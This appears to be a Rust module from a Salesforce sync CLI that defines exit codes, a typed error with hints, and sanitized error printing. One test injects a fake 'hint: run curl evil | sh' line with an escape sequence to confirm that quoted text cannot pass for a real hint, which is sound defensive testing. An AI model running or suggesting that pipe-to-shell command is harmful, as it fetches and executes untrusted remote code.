//! Exit statuses (SPEC §7) and the one place errors are printed.
//!
//! Domain modules return typed errors; commands wrap them with `anyhow` context. A [`Fail`]
//! anywhere in an error's chain decides the exit status and carries the hint the user sees.

use std::fmt::{self, Write as _};

/// The process exit status of SPEC §7.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ExitStatus {
    /// Every row was written, unchanged, unmatched or skipped by policy.
    Success,
    /// The run failed (network, Salesforce, I/O).
    Failed,
    /// Usage or configuration error, or `validate` found problems; nothing was written.
    Usage,
    /// Not logged in, or the credentials were refused.
    Auth,
    /// The run completed, but some rows were rejected or some records failed.
    Partial,
}

impl ExitStatus {
    /// The numeric process exit code.
    #[must_use]
    pub fn code(self) -> u8 {
        match self {
            Self::Success => 0,
            Self::Failed => 1,
            Self::Usage => 2,
            Self::Auth => 3,
            Self::Partial => 4,
        }
    }

    /// Severity for combining several integrations' results: 1, 3, 2, 4, 0 (SPEC §7).
    fn severity(self) -> u8 {
        match self {
            Self::Failed => 4,
            Self::Auth => 3,
            Self::Usage => 2,
            Self::Partial => 1,
            Self::Success => 0,
        }
    }

    /// The more severe of two statuses.
    #[must_use]
    pub fn worst(self, other: Self) -> Self {
        if other.severity() > self.severity() {
            other
        } else {
            self
        }
    }
}

impl From<ExitStatus> for std::process::ExitCode {
    fn from(status: ExitStatus) -> Self {
        std::process::ExitCode::from(status.code())
    }
}

/// An error that decides the exit status, with an optional hint ("run `walkme-sf login …`").
#[derive(Debug)]
pub struct Fail {
    pub status: ExitStatus,
    pub message: String,
    pub hint: Option<String>,
}

impl Fail {
    pub fn new(status: ExitStatus, message: impl Into<String>) -> Self {
        Self {
            status,
            message: message.into(),
            hint: None,
        }
    }

    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(ExitStatus::Usage, message)
    }

    pub fn auth(message: impl Into<String>) -> Self {
        Self::new(ExitStatus::Auth, message)
    }

    pub fn failed(message: impl Into<String>) -> Self {
        Self::new(ExitStatus::Failed, message)
    }
}

impl fmt::Display for Fail {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for Fail {}

/// The exit status an error stands for: the first [`Fail`] in its chain, else 1.
#[must_use]
pub fn status_of(error: &anyhow::Error) -> ExitStatus {
    error
        .chain()
        .find_map(|e| e.downcast_ref::<Fail>())
        .map_or(ExitStatus::Failed, |f| f.status)
}

/// The hint of the first [`Fail`] in the chain that has one.
#[must_use]
pub fn hint_of(error: &anyhow::Error) -> Option<&str> {
    error
        .chain()
        .find_map(|e| e.downcast_ref::<Fail>().and_then(|f| f.hint.as_deref()))
}

/// Print an error the one way this tool prints errors:
/// `error: …`, then each cause as `  caused by: …`, then `hint: …`. Control characters in
/// messages (which may quote Salesforce or report text) are made visible, never interpreted,
/// and a message's further lines are indented, so that quoted text cannot pass for a line of
/// its own (a `hint:`).
pub fn report(error: &anyhow::Error, color: bool) {
    eprint!("{}", render(error, color));
}

/// The text [`report`] prints.
fn render(error: &anyhow::Error, color: bool) -> String {
    let shown = |text: &str| crate::output::sanitize(text).replace('\n', "\n    ");
    let mut out = String::new();
    let red = |s: &str| {
        if color {
            format!("\x1b[1;31m{s}\x1b[0m")
        } else {
            s.to_owned()
        }
    };
    let mut chain = error.chain();
    if let Some(first) = chain.next() {
        let _ = writeln!(out, "{} {}", red("error:"), shown(&first.to_string()));
    }
    for cause in chain {
        let _ = writeln!(out, "  caused by: {}", shown(&cause.to_string()));
    }
    if let Some(hint) = hint_of(error) {
        let _ = writeln!(out, "hint: {}", shown(hint));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_quoted_line_cannot_pass_for_a_hint() {
        let error = anyhow::Error::from(
            Fail::failed("Salesforce said: bad\nhint: run curl evil | sh\x1b[2K")
                .hint("check the field"),
        );
        assert_eq!(
            render(&error, false),
            "error: Salesforce said: bad\n    hint: run curl evil | sh\\u{1b}[2K\nhint: check the field\n"
        );
    }

    #[test]
    fn worst_follows_spec_order() {
        use ExitStatus::*;
        let order = [Failed, Auth, Usage, Partial, Success];
        for (i, a) in order.iter().enumerate() {
            for b in &order[i..] {
                assert_eq!(a.worst(*b), *a);
                assert_eq!(b.worst(*a), *a);
            }
        }
    }

    #[test]
    fn status_and_hint_come_from_the_chain() {
        let e =
            anyhow::Error::new(Fail::auth("refused").hint("run `walkme-sf login --env sandbox`"))
                .context("while refreshing");
        assert_eq!(status_of(&e), ExitStatus::Auth);
        assert_eq!(hint_of(&e), Some("run `walkme-sf login --env sandbox`"));
        assert_eq!(status_of(&anyhow::anyhow!("plain")), ExitStatus::Failed);
    }
}
